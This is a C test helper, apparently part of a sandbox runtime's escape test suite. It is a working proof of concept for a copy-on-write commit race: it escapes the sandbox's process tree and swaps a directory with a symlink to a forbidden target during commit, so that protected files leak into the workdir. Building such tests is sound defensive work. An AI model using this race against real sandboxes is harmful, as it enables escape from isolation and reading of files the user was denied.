// cowrace DIR TARGET SECS: a process that outlives a user's sandbox (no cgroup kills it) and
// changes the copy-on-write layer while the runtime commits it (TestEscapeCOWCommitRace).
// In DIR (the workdir, seen through the sandbox's overlay) it makes d/ with a file and a
// symlink s -> TARGET (a directory the sandbox may not read), leaves the sandbox's process
// tree (double fork, setsid), then polls DIR's listing (the overlay reads the lower again after
// each change of the upper, so the commit's staging directory shows) until the commit's staging
// directory appears: the commit has seen d as a directory. It swaps d and s (RENAME_EXCHANGE)
// and makes `go` (the commit's test hook waits for it). A commit that then reads d by path
// copies or hard-links TARGET's files into the workdir. Prints to stderr what it did.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#include <linux/fs.h>

static int staging(void) {
	DIR *d = opendir(".");
	struct dirent *e;
	int found = 0;
	if (!d)
		return 0;
	while ((e = readdir(d)))
		if (!strncmp(e->d_name, ".sandlock-commit-", 17))
			found = 1;
	closedir(d);
	return found;
}

int main(int argc, char **argv) {
	if (argc < 4)
		return 2;
	if (chdir(argv[1]) || mkdir("d", 0755)) {
		perror("cowrace: setup");
		return 1;
	}
	int fd = open("d/own", O_CREAT | O_WRONLY, 0644);
	if (fd < 0 || symlink(argv[2], "s")) {
		perror("cowrace: setup");
		return 1;
	}
	close(fd);
	if (fork() != 0)
		return 0;
	setsid();
	if (fork() != 0)
		_exit(0);
	time_t end = time(NULL) + atoi(argv[3]);
	while (time(NULL) < end) {
		fd = open("bump", O_CREAT | O_WRONLY, 0644); /* a change of the upper: a fresh listing */
		if (fd >= 0)
			close(fd);
		unlink("bump");
		if (staging()) {
			long r = syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "s", RENAME_EXCHANGE);
			fd = open("go", O_CREAT | O_WRONLY, 0644);
			fprintf(stderr, "cowrace: staging seen, exchange %s, go %s\n", r == 0 ? "done" : "failed", fd >= 0 ? "made" : "failed");
			return 0;
		}
	}
	fprintf(stderr, "cowrace: no staging seen\n");
	return 0;
}
